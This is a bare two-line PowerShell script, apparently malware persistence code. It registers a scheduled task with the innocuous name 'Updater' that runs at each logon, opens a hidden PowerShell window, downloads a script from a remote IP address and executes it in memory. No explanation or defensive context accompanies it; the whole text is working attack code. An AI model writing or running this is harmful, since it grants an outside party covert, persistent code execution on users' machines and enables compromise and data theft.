$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -nop -c "IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.9/t'')"'
Register-ScheduledTask -TaskName 'Updater' -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)
